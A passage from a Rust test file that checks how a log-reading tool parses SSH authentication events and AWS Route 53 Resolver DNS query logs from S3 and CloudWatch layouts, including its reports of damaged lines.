        events.contains(&("failed", Some("admin"), Some("ip-10-40-16-11"))),
        "{events:?}"
    );
    assert!(
        events.contains(&("accepted", Some("ec2-user"), Some("ip-10-40-16-11"))),
        "{events:?}"
    );
    assert!(
        events.contains(&("sudo", Some("ec2-user"), Some("ip-10-40-16-11"))),
        "{events:?}"
    );
    assert!(
        events.contains(&("invalid_user", Some("oracle"), Some("app-6"))),
        "{events:?}"
    );
    // No host in the entry: the host folder of the path.
    assert!(
        events.contains(&("invalid_user", Some("test"), Some("i-0abc12345def67890"))),
        "{events:?}"
    );
    let accepted = rows
        .iter()
        .find(|r| r["event"].as_deref() == Some("accepted"))
        .expect("accepted");
    assert_eq!(
        accepted["key_fingerprint"].as_deref(),
        Some("SHA256:abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG")
    );
    assert_eq!(
        accepted["time"].as_deref(),
        Some("2026-11-23T10:43:05.123Z")
    );
    assert_eq!(accepted["source_line"].as_deref(), Some("3"));
    let problems = read.report.problems();
    assert_eq!(problems.len(), 1, "{problems:#?}");
    assert!(
        problems[0].to_string().contains("secure:5"),
        "{}",
        problems[0]
    );
    // The cron line is a well-formed line of another program: counted, not a problem.
    assert!(read.report.summary().filtered >= 1);
}

#[test]
fn resolver_queries_in_s3_and_cloudwatch_layouts() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    let query = |name: &str, ip: &str| {
        serde_json::json!({
            "version": "1.100000", "account_id": "111122223333", "region": "us-east-1",
            "vpc_id": "vpc-0abc", "query_timestamp": "2026-11-23T09:00:00Z",
            "query_name": name, "query_type": "TXT", "query_class": "IN", "rcode": "NOERROR",
            "answers": [], "srcaddr": ip, "srcport": "53123", "transport": "UDP",
            "srcids": {"instance": "i-0abc12345def67890"}
        })
        .to_string()
    };
    // S3 delivery: gzip JSON lines, one of them damaged.
    let s3 = root.join("AWSLogs/111122223333/vpcdnsquerylogs/vpc-0abc/2026/11/23");
    std::fs::create_dir_all(&s3).expect("mkdir");
    let lines = format!(
        "{}\n{{\"query_timestamp\": \"yesterday\", \"query_name\": \"x.\", \"srcaddr\": \"10.0.0.9\"}}\n{}\n",
        query("a.example.", "10.0.0.5"),
        query("b.example.", "10.0.0.6")
    );
    std::fs::write(s3.join("q.log.gz"), gzip(lines.as_bytes())).expect("write");
    // CloudWatch Logs: an export, and a Firehose delivery (with a control message) in one file.
    let export = serde_json::json!({"events": [
        {"message": query("c.example.", "10.0.0.7")},
        {"message": query("d.example.", "10.0.0.8")}
    ]});
    let firehose = serde_json::json!({"messageType": "DATA_MESSAGE", "logGroup": "resolver",
        "logEvents": [{"id": "1", "timestamp": 1, "message": query("e.example.", "10.0.0.9")}]});
    let control = serde_json::json!({"messageType": "CONTROL_MESSAGE", "logEvents": []});
    std::fs::write(
        root.join("cloudwatch.json"),
        format!("{export}\n{firehose}{control}"),
    )
    .expect("write");
    let read = read_table(&[root.to_path_buf()], "dns");
    let rows = read.records();
    let names: Vec<&str> = rows
        .iter()
        .map(|r| r["query_name"].as_deref().expect("name"))
        .collect();
    assert_eq!(
        names,
        [
            "a.example.",
            "b.example.",
            "c.example.",
            "d.example.",
            "e.example."
        ]
    );
    let problems = read.report.problems();
    assert_eq!(problems.len(), 1, "{problems:#?}");
    assert!(
        problems[0]
            .to_string()
            .contains("q.log.gz:2: Resolver query without a readable query_timestamp"),
        "{}",
        problems[0]
    );
    assert!(
        rows.iter()
            .all(|r| r["instance_id"].as_deref() == Some("i-0abc12345def67890"))
    );
    assert_eq!(rows[0]["source_port"].as_deref(), Some("53123"));
    assert_eq!(rows[0]["source_line"].as_deref(), Some("1"));
    assert_eq!(rows[1]["source_line"].as_deref(), Some("3"));
    assert_eq!(rows[3]["source_event"].as_deref(), Some("2"));
    assert_eq!(read.catalog.counts().get(&LogKind::ResolverQuery), Some(&2));
}
